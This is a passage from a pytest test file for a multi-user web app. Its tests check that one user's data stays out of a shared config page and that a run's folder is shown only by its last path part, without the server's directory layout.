        assert page.post("/login", data={"username": BOB[0], "password": BOB[1]}).status_code == 200
        assert name not in str(page.get("/config").json())  # not built into the page everyone is served
    finally:
        for f in files:
            f.unlink(missing_ok=True)
            _remove_empty(f.parent)


@pytest.mark.slow
def test_run_folder_shows_only_its_last_part_behind_a_login(two_users):
    """Issue 24, newcomer 9, the shared side: a login means several people use the app, so a run's folder shows
    only its last part, never the server's layout (a local app shows it relative to its start folder:
    test_browser_newcomer.py)."""
    run = two_users["tmp"] / "runs" / "20260106-000000-capitals"
    run.mkdir(parents=True)
    (run / "config.yaml").write_text("name: capitals\n")
    details = runs_client(two_users["url"]).predict(run.name, api_name="/run_details")[0]
    folder = details.split("Folder: ", 1)[1].split(" · ", 1)[0].replace("\\", "")
    assert folder == f".../{run.name}", details
    assert str(two_users["tmp"]) not in details.replace("\\", ""), details
